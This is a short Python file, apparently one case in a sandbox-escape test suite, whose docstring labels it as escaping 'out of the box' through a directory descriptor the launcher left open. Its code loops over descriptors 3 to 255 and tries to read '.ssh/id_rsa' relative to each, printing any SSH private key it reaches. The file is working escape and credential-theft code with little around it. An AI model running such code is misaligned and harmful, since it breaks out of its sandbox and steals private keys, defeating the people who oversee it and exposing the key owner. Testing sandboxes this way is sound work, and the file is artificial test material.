"""Walks out of the box from a folder that the launcher had left open.

family: descriptors
judge: loot ssh
trace: inherited descriptor
descriptors: home
"""

import contextlib
import os

for number in range(3, 256):
    for path in (".ssh/id_rsa", "../.ssh/id_rsa"):
        with contextlib.suppress(OSError), open(os.open(path, os.O_RDONLY, dir_fd=number)) as file:
            print(file.read())
